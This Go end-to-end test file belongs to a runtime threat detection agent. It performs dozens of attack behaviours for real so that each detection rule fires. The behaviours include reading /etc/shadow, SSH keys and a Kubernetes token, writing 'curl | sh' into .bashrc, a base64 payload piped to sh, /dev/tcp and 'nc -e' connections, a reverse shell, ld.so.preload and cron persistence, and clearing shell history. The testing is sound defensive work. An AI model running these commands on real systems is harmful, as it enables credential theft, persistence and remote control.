package rules_test

import (
	"encoding/base64"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"syscall"
	"testing"
	"time"

	"github.com/vigilsec/vigil/internal/testutil"
)

// attack is one rule's proof: run performs the behaviour for real and
// returns a string the alert's output must contain (a unique marker, or
// the pid of the process), the pid when the test knows it, and the
// process name the alert must report.
type attack struct {
	rule      string
	priority  string
	container bool
	run       func(t *testing.T, m string) (match string, pid int, name string)
}

// run starts cmd, waits for it and returns its pid.
func run(t *testing.T, cmd *exec.Cmd) int {
	t.Helper()
	return mustRun(t, cmd).Process.Pid
}

// prog copies the host program src into a fresh directory of the suite's
// work directory under name, and returns its path.
func prog(t *testing.T, src, name string) string {
	t.Helper()
	dir, err := os.MkdirTemp(workDir(t), "bin-")
	if err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	return testutil.CopyExecutable(t, src, filepath.Join(dir, name))
}

// home makes a user home under the work directory holding files.
func home(t *testing.T, m string, files map[string]string) string {
	t.Helper()
	dir := filepath.Join(workDir(t), "home", m)
	for name, text := range files {
		path := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

// waitExec waits until the agent's process table shows pid running comm:
// events of different processes are handled in parallel, so a target
// started just before the attack may not be known yet when it is hit.
func waitExec(t *testing.T, pid int, comm string) {
	t.Helper()
	for deadline := time.Now().Add(10 * time.Second); ; time.Sleep(10 * time.Millisecond) {
		if p, ok := suite.col.table.Get(uint32(pid)); ok && p.Image != nil && p.Comm == comm {
			return
		}
		if time.Now().After(deadline) {
			t.Fatalf("pid %d never ran %s in the agent's table", pid, comm)
		}
	}
}

// pidOf is the marker of a host process known by pid.
func pidOf(pid int) string { return fmt.Sprintf("pid=%d ", pid) }

// busyboxTool is a script prefix that makes /tmp/b/NAME run busybox as
// NAME inside the container (applets dispatch on argv[0]).
func busyboxTool(names ...string) string {
	s := "mkdir -p /tmp/b; "
	for _, n := range names {
		s += "ln -sf /bin/busybox /tmp/b/" + n + "; "
	}
	return s
}

var attacks = []attack{
	// Execution
	{"Shell spawned by a network service", "Warning", false, func(t *testing.T, m string) (string, int, string) {
		nginx := prog(t, "/bin/bash", "nginx")
		run(t, exec.Command(nginx, "-c", "/bin/sh -c 'echo "+m+"'; true"))
		return m, 0, "sh"
	}},
	{"Interactive shell in a container", "Warning", true, func(t *testing.T, m string) (string, int, string) {
		inContainer(t, true, "echo "+m)
		return m, 0, "sh"
	}},
	{"Program executed from a temporary directory", "Warning", false, func(t *testing.T, m string) (string, int, string) {
		bin := testutil.CopyExecutable(t, "/bin/true", m) // in t.TempDir(), below /tmp
		return m, run(t, exec.Command(bin)), m
	}},
	{"Fileless execution", "Critical", false, func(t *testing.T, m string) (string, int, string) {
		pid := run(t, helper(t, 0, "memfd", m))
		return m, pid, ""
	}},
	{"Executable added to a container's upper layer", "Critical", true, func(t *testing.T, m string) (string, int, string) {
		inContainer(t, false, "cp /bin/busybox /root/"+m+"; /root/"+m+" true; true")
		return "/root/" + m, 0, m
	}},
	{"Interpreter running an inline program", "Notice", false, func(t *testing.T, m string) (string, int, string) {
		return m, run(t, exec.Command("perl", "-e", "print qq("+m+"\\n)")), "perl"
	}},
	{"Base64 payload decoded into a shell", "Warning", false, func(t *testing.T, m string) (string, int, string) {
		payload := base64.StdEncoding.EncodeToString([]byte("true\n"))
		return m, run(t, exec.Command("/bin/sh", "-c", "echo "+payload+" | base64 -d | sh # "+m)), "sh"
	}},
	// Credential access
	{"Credential file read by an unexpected program", "Warning", false, func(t *testing.T, m string) (string, int, string) {
		pid := run(t, exec.Command("cat", "/etc/shadow"))
		return pidOf(pid), pid, "cat"
	}},
	{"Sudoers configuration read", "Notice", true, func(t *testing.T, m string) (string, int, string) {
		inContainer(t, false, "mkdir -p /etc/sudoers.d; echo 'root ALL=(ALL) ALL' > /etc/sudoers.d/"+m+"; /bin/cat /etc/sudoers.d/"+m)
		return m, 0, "cat"
	}},
	{"SSH private key read", "Warning", false, func(t *testing.T, m string) (string, int, string) {
		// The rule watches /home/*/.ssh: the key is planted in a real home.
		dir := filepath.Join("/home", m)
		if err := os.MkdirAll(filepath.Join(dir, ".ssh"), 0o700); err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() {
			if err := os.RemoveAll(dir); err != nil {
				t.Error(err)
			}
		})
		if err := os.WriteFile(filepath.Join(dir, ".ssh", "id_ed25519"), []byte("-----BEGIN OPENSSH PRIVATE KEY-----\n"), 0o600); err != nil {
			t.Fatal(err)
		}
		return m, run(t, exec.Command("cat", filepath.Join(dir, ".ssh", "id_ed25519"))), "cat"
	}},
	{"Cloud credentials read by an unexpected program", "Warning", false, func(t *testing.T, m string) (string, int, string) {
		h := home(t, m, map[string]string{".aws/credentials": "[default]\naws_access_key_id = AKIAE2E\n"})
		return m, run(t, exec.Command("cat", filepath.Join(h, ".aws/credentials"))), "cat"
	}},
	{"Search for private keys or passwords", "Warning", false, func(t *testing.T, m string) (string, int, string) {
		h := home(t, m, map[string]string{"notes.txt": "nothing here\n"})
		return m, run(t, exec.Command("grep", "-r", "BEGIN RSA PRIVATE KEY", h)), "grep"
	}},
	{"Another process's environment or memory read", "Warning", false, func(t *testing.T, m string) (string, int, string) {
		victim := exec.Command("sleep", "30")
		if err := victim.Start(); err != nil {
			t.Fatal(err)
		}
		defer testutil.KillAndWait(victim)
		path := fmt.Sprintf("/proc/%d/environ", victim.Process.Pid)
		return path, run(t, exec.Command("cat", path)), "cat"
	}},
	{"Kubernetes service account token read by a shell tool", "Warning", true, func(t *testing.T, m string) (string, int, string) {
		inContainer(t, false, "/bin/cat /var/run/secrets/kubernetes.io/serviceaccount/token # "+m)
		return "serviceaccount/token", 0, "cat"
	}},
	// Persistence
	{"SSH authorized keys modified", "Warning", false, func(t *testing.T, m string) (string, int, string) {
		h := home(t, m, map[string]string{".ssh/known_hosts": ""})
		return m, run(t, exec.Command("/bin/sh", "-c", "echo 'ssh-ed25519 AAAAC3 e2e' >> "+h+"/.ssh/authorized_keys")), "sh"
	}},
	{"Cron job created or modified", "Warning", true, func(t *testing.T, m string) (string, int, string) {
		inContainer(t, false, "mkdir -p /etc/cron.d; echo '* * * * * root id' >> /etc/cron.d/"+m)
		return m, 0, "sh"
	}},
	{"Service unit created or modified", "Warning", true, func(t *testing.T, m string) (string, int, string) {
		inContainer(t, false, "mkdir -p /etc/systemd/system; echo '[Service]' >> /etc/systemd/system/"+m+".service")
		return m, 0, "sh"
	}},
	{"Shell startup file modified", "Warning", false, func(t *testing.T, m string) (string, int, string) {
		h := home(t, m, map[string]string{".profile": "# profile\n"})
		return m, run(t, exec.Command("/bin/sh", "-c", "echo 'curl -s x | sh' >> "+h+"/.bashrc")), "sh"
	}},
	{"Dynamic linker preload configured", "Critical", true, func(t *testing.T, m string) (string, int, string) {
		inContainer(t, false, "echo /lib/"+m+".so >> /etc/ld.so.preload")
		return m, 0, "sh"
	}},
	{"User or group management program run", "Warning", true, func(t *testing.T, m string) (string, int, string) {
		inContainer(t, false, busyboxTool("adduser")+"/tmp/b/adduser -D -H "+m)
		return m, 0, "adduser"
	}},
	{"Setuid or setgid bit set", "Warning", false, func(t *testing.T, m string) (string, int, string) {
		bin := prog(t, "/bin/true", m)
		return m, run(t, exec.Command("chmod", "u+s", bin)), "chmod"
	}},
	// Privilege escalation and escape
	{"Cgroup release agent written", "Critical", false, func(t *testing.T, m string) (string, int, string) {
		// Opened for appending and closed without a write: the host's
		// release agent is left as it is.
		return m, run(t, exec.Command("/bin/sh", "-c", ": >> /sys/fs/cgroup/pids/release_agent # "+m)), "sh"
	}},
	{"File system mounted in a container", "Warning", true, func(t *testing.T, m string) (string, int, string) {
		inContainer(t, false, busyboxTool("mount")+"mkdir -p /mnt/"+m+"; /tmp/b/mount -t tmpfs none /mnt/"+m)
		return m, 0, "mount"
	}},
	{"Namespace or debugging tool run in a container", "Warning", true, func(t *testing.T, m string) (string, int, string) {
		inContainer(t, false, busyboxTool("nsenter")+"/tmp/b/nsenter -t 1 -m true "+m)
		return m, 0, "nsenter"
	}},
	{"Namespace changed in a container", "Warning", true, func(t *testing.T, m string) (string, int, string) {
		inContainer(t, false, busyboxTool("unshare")+"/tmp/b/unshare -m sh -c 'true "+m+"'")
		return "process=unshare", 0, "unshare"
	}},
	{"Container started with administrative privileges", "Warning", true, func(t *testing.T, m string) (string, int, string) {
		sharedContainer(t)
		return "cmdline=sleep 3600", 0, "sleep"
	}},
	{"Non-root process set its user to root", "Warning", false, func(t *testing.T, m string) (string, int, string) {
		pid := run(t, helper(t, 65534, "setuid0", ""))
		return pidOf(pid), pid, "e2e-helper"
	}},
	{"Unprivileged userfaultfd created", "Warning", false, func(t *testing.T, m string) (string, int, string) {
		pid := run(t, helper(t, 65534, "userfaultfd", ""))
		return pidOf(pid), pid, "e2e-helper"
	}},
	{"Loader variables passed to a setuid program", "Warning", false, func(t *testing.T, m string) (string, int, string) {
		// A user's shell passes the variables on, one inherited and one set
		// for the command, as exploit instructions go: nothing of it is in
		// su's argv, and the marker is expanded by the shell so that only
		// su's environment (not the shell's command line) carries it.
		cmd := exec.Command("/bin/sh", "-c", "v="+m+"; GLIBC_TUNABLES=glibc.malloc.mxfast=$v /usr/bin/su --help >/dev/null 2>&1; true")
		cmd.Env = []string{"PATH=/usr/bin:/bin", "LD_PRELOAD=/nonexistent/hook.so"}
		cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 65534, Gid: 65534}}
		run(t, cmd)
		return "GLIBC_TUNABLES=glibc.malloc.mxfast=" + m, 0, "su"
	}},
	{"Kernel module loaded", "Warning", false, func(t *testing.T, m string) (string, int, string) {
		ko := filepath.Join(t.TempDir(), m+".ko")
		if err := os.WriteFile(ko, []byte("not a module"), 0o644); err != nil {
			t.Fatal(err)
		}
		pid := run(t, helper(t, 0, "finit_module", ko))
		return pidOf(pid), pid, ""
	}},
	{"BPF program loaded by an unexpected process", "Warning", false, func(t *testing.T, m string) (string, int, string) {
		pid := run(t, helper(t, 0, "bpf_load", ""))
		return pidOf(pid), pid, ""
	}},
	{"Process attached to another with ptrace", "Warning", false, func(t *testing.T, m string) (string, int, string) {
		victim := exec.Command("sleep", "30")
		if err := victim.Start(); err != nil {
			t.Fatal(err)
		}
		defer testutil.KillAndWait(victim)
		waitExec(t, victim.Process.Pid, "sleep")
		pid := run(t, helper(t, 0, "ptrace_attach", strconv.Itoa(victim.Process.Pid)))
		return fmt.Sprintf("target_pid=%d target=sleep", victim.Process.Pid), pid, ""
	}},
	{"Anti-debugging with PTRACE_TRACEME", "Warning", false, func(t *testing.T, m string) (string, int, string) {
		pid := run(t, helper(t, 0, "traceme", ""))
		return pidOf(pid), pid, ""
	}},
	// Defense evasion
	{"Log file cleared", "Warning", true, func(t *testing.T, m string) (string, int, string) {
		inContainer(t, false, "mkdir -p /var/log; echo 'sshd: accepted' >> /var/log/"+m+".log; : > /var/log/"+m+".log")
		return m, 0, "sh"
	}},
	{"Shell history truncated", "Warning", false, func(t *testing.T, m string) (string, int, string) {
		h := home(t, m, map[string]string{".bash_history": "wget http://x/y\n"})
		return m, run(t, exec.Command("cp", "/dev/null", h+"/.bash_history")), "cp"
	}},
	{"Shell history deleted", "Warning", false, func(t *testing.T, m string) (string, int, string) {
		h := home(t, m, map[string]string{".zsh_history": "nc -e /bin/sh x 1\n"})
		return m, run(t, exec.Command("rm", "-f", h+"/.zsh_history")), "rm"
	}},
	{"Hidden file created in a system directory", "Warning", true, func(t *testing.T, m string) (string, int, string) {
		inContainer(t, false, "mkdir -p /usr/lib; echo x > /usr/lib/."+m)
		return m, 0, "sh"
	}},
	{"Well-known program run from an unusual place", "Warning", false, func(t *testing.T, m string) (string, int, string) {
		bin := testutil.CopyExecutable(t, "/bin/sleep", filepath.Join(t.TempDir(), "sshd"))
		return bin, run(t, exec.Command(bin, "0")), "sshd"
	}},
	{"Process disguised as a kernel thread", "Warning", false, func(t *testing.T, m string) (string, int, string) {
		run(t, exec.Command("bash", "-c", "exec -a '[kworker/0:"+m+"]' sleep 0"))
		return m, 0, "sleep"
	}},
	{"Audit logging disabled", "Warning", false, func(t *testing.T, m string) (string, int, string) {
		bin := prog(t, "/bin/true", "auditctl")
		return m, run(t, exec.Command(bin, "-e", "0", "-k", m)), "auditctl"
	}},
	// Discovery and lateral movement
	{"Network scanning tool run", "Warning", false, func(t *testing.T, m string) (string, int, string) {
		bin := prog(t, "/bin/true", "nmap")
		return m, run(t, exec.Command(bin, "-sT", "-p", "1-1024", "--reason", m, "127.0.0.1")), "nmap"
	}},
	{"Cluster or cloud CLI run in a container", "Warning", true, func(t *testing.T, m string) (string, int, string) {
		inContainer(t, false, busyboxTool("kubectl")+"/tmp/b/kubectl get secrets -A -l "+m+"; true")
		return m, 0, "kubectl"
	}},
	{"Cloud metadata service contacted from a container", "Warning", true, func(t *testing.T, m string) (string, int, string) {
		inContainer(t, false, busyboxTool("ip", "nc")+"/tmp/b/ip addr add 169.254.169.254/32 dev lo; /tmp/b/nc 169.254.169.254 80 </dev/null; true # "+m)
		return "169.254.169.254:80", 0, "nc"
	}},
	{"Kubernetes API server contacted from a container", "Warning", true, func(t *testing.T, m string) (string, int, string) {
		inContainer(t, false, busyboxTool("ip", "nc")+"/tmp/b/ip addr add 10.96.0.1/32 dev lo; /tmp/b/nc 10.96.0.1 443 </dev/null; true # "+m)
		return "10.96.0.1:443", 0, "nc"
	}},
	{"SSH connection to a non-standard port", "Notice", false, func(t *testing.T, m string) (string, int, string) {
		port := listenRemote(t, "tcp4", 0)
		pid := run(t, exec.Command("ssh", "-o", "BatchMode=yes", "-o", "StrictHostKeyChecking=no", "-o", "ConnectTimeout=5",
			"-p", strconv.Itoa(port), m+"@"+remoteHost(t), "true"))
		return fmt.Sprintf("port=%d ", port), pid, "ssh"
	}},
	// Command and control, and exfiltration
	{"Outbound connection from a shell", "Warning", false, func(t *testing.T, m string) (string, int, string) {
		port := listenRemote(t, "tcp4", 0)
		pid := run(t, exec.Command("bash", "-c", fmt.Sprintf("exec 3<>/dev/tcp/%s/%d; echo %s >&3", remoteHost(t), port, m)))
		return fmt.Sprintf("%s:%d ", remoteHost(t), port), pid, "bash"
	}},
	{"Netcat or socat executing a command", "Warning", false, func(t *testing.T, m string) (string, int, string) {
		port := listenRemote(t, "tcp4", 0)
		dir := filepath.Dir(prog(t, "/bin/true", "unused"))
		nc := filepath.Join(dir, "nc")
		if err := os.Symlink("/bin/busybox", nc); err != nil {
			t.Fatal(err)
		}
		return m, run(t, exec.Command(nc, "-w", "2", "-e", "/bin/echo", m, remoteHost(t), strconv.Itoa(port))), "nc"
	}},
	{"Remote copy or download tool run in a container", "Notice", true, func(t *testing.T, m string) (string, int, string) {
		inContainer(t, false, busyboxTool("wget")+"/tmp/b/wget -q -T 2 http://127.0.0.1:1/"+m+"; true")
		return m, 0, "wget"
	}},
	{"Cryptocurrency miner started", "Critical", false, func(t *testing.T, m string) (string, int, string) {
		bin := prog(t, "/bin/true", "kswapd-helper")
		return m, run(t, exec.Command(bin, "-o", "stratum+tcp://"+remoteHost(t)+":3333", "-u", m, "--donate-level", "1")), "kswapd-helper"
	}},
	{"Packet socket opened in a container", "Warning", true, func(t *testing.T, m string) (string, int, string) {
		inContainer(t, false, busyboxTool("arping")+"/tmp/b/arping -c 1 -I lo 127.0.0.1; true # "+m)
		return "process=arping", 0, "arping"
	}},
	// Tampering
	{"Write below /etc", "Error", true, func(t *testing.T, m string) (string, int, string) {
		inContainer(t, false, "echo x >> /etc/"+m)
		return m, 0, "sh"
	}},
	{"Write below a binary directory", "Error", true, func(t *testing.T, m string) (string, int, string) {
		inContainer(t, false, "mkdir -p /usr/local/bin; echo x >> /usr/local/bin/"+m)
		return m, 0, "sh"
	}},
	{"Write below /root", "Warning", true, func(t *testing.T, m string) (string, int, string) {
		inContainer(t, false, "echo x >> /root/"+m+".txt")
		return m, 0, "sh"
	}},
	{"Package database modified outside the package manager", "Error", true, func(t *testing.T, m string) (string, int, string) {
		inContainer(t, false, "mkdir -p /var/lib/dpkg/info; echo x >> /var/lib/dpkg/info/"+m+".list")
		return m, 0, "sh"
	}},
	{"Package manager run in a container", "Warning", true, func(t *testing.T, m string) (string, int, string) {
		inContainer(t, false, busyboxTool("apk")+"/tmp/b/apk add "+m+"; true")
		return m, 0, "apk"
	}},
	{"Data wiping tool run", "Warning", false, func(t *testing.T, m string) (string, int, string) {
		h := home(t, m, map[string]string{"ledger.db": "important\n"})
		return m, run(t, exec.Command("shred", "-u", h+"/ledger.db")), "shred"
	}},
	// Vigil's own integrity
	{"Vigil agent signalled to stop", "Critical", false, func(t *testing.T, m string) (string, int, string) {
		agent := exec.Command(prog(t, "/bin/sleep", "vigil"), "30")
		if err := agent.Start(); err != nil {
			t.Fatal(err)
		}
		defer func() { _ = agent.Wait() }()     // reaped: the kill below ends it, as meant
		waitExec(t, agent.Process.Pid, "vigil") // as when the agent has run for a while
		pid := run(t, exec.Command("/bin/sh", "-c", fmt.Sprintf("kill -TERM %d", agent.Process.Pid)))
		return fmt.Sprintf("target_pid=%d ", agent.Process.Pid), pid, "sh"
	}},
	{"BPF programs or maps of other processes accessed", "Warning", false, func(t *testing.T, m string) (string, int, string) {
		pid := run(t, helper(t, 0, "bpf_get_fd", ""))
		return pidOf(pid), pid, ""
	}},
	// Experimental
	{"Reverse shell", "Critical", false, func(t *testing.T, m string) (string, int, string) {
		port := listenRemote(t, "tcp4", 0)
		cmd := helper(t, 0, "reverse_shell", fmt.Sprintf("%s:%d", remoteHost(t), port))
		cmd.Env = append(cmd.Env, "VIGIL_E2E_MARKER="+m)
		return m, run(t, cmd), "sh"
	}},
	{"Unexpected outbound UDP", "Notice", false, func(t *testing.T, m string) (string, int, string) {
		port := listenRemote(t, "udp4", 0)
		pid := run(t, exec.Command("bash", "-c", fmt.Sprintf("echo %s > /dev/udp/%s/%d", m, remoteHost(t), port)))
		return fmt.Sprintf("port=%d ", port), pid, "bash"
	}},
	{"Hidden directory created in a system directory", "Warning", true, func(t *testing.T, m string) (string, int, string) {
		inContainer(t, false, busyboxTool("mkdir")+"/tmp/b/mkdir -p /usr/lib/."+m)
		return m, 0, "mkdir"
	}},
	{"Connection to a mining pool port", "Notice", false, func(t *testing.T, m string) (string, int, string) {
		listenRemote(t, "tcp4", 3333)
		pid := run(t, exec.Command("bash", "-c", fmt.Sprintf("exec 3<>/dev/tcp/%s/3333; echo %s >&3", remoteHost(t), m)))
		return pidOf(pid), pid, "bash"
	}},
}

// TestAttacks performs every attack for real and checks that its rule
// fired exactly once, with the exact rule name, priority, container id
// and process fields; and that every default rule has an attack.
func TestAttacks(t *testing.T) {
	col := startAgent(t)
	covered := map[string]bool{}
	for _, a := range attacks {
		covered[a.rule] = true
		t.Run(a.rule, func(t *testing.T) {
			t.Parallel()
			var match, name string
			var pid int
			// An attack whose events the agent dropped (it counts them)
			// is repeated once; one that was not dropped must fire.
			for try := 1; ; try++ {
				before := lost()
				match, pid, name = a.run(t, newMarker())
				if waitFor(col, a.rule, match) {
					break
				}
				if dropped := lost() - before; dropped == 0 || try == 2 {
					t.Fatalf("%q did not fire for %q (agent dropped %d events meanwhile)", a.rule, match, dropped)
				}
				t.Logf("the agent dropped events; repeating the attack")
			}
			got := exactlyOne(t, col, a.rule, match)
			want := "host"
			if a.container {
				id, _ := sharedContainer(t)
				want = id[:12]
			}
			if got.Priority != a.priority {
				t.Errorf("priority %s, want %s", got.Priority, a.priority)
			}
			if c := got.Context.Identity.ContainerID; c != want || got.OutputFields["container.id"] != want {
				t.Errorf("container %s (output field %v), want %s", c, got.OutputFields["container.id"], want)
			}
			if a.container {
				_, cname := sharedContainer(t)
				if got.OutputFields["container.name"] != cname || got.OutputFields["container.image.repository"] != "vigil-test/busybox" ||
					got.OutputFields["k8s.pod.name"] != "shop-web-0" || got.OutputFields["k8s.ns.name"] != "shop" {
					t.Errorf("workload fields %v", got.OutputFields)
				}
			}
			if name != "" && got.OutputFields["proc.name"] != name {
				t.Errorf("proc.name %v, want %s", got.OutputFields["proc.name"], name)
			}
			if pid != 0 && got.OutputFields["proc.pid"] != uint64(pid) {
				t.Errorf("proc.pid %v, want %d", got.OutputFields["proc.pid"], pid)
			}
			for _, f := range []string{"proc.cmdline", "proc.pname", "user.name"} {
				if _, ok := got.OutputFields[f]; !ok {
					t.Errorf("output lacks %s", f)
				}
			}
			t.Logf("%s: %s", got.Rule, got.Output)
		})
	}
	for _, r := range suite.rs.Program.Rules() {
		if r.Enabled && !covered[r.Name] {
			t.Errorf("no attack test for rule %q", r.Name)
		}
	}
}
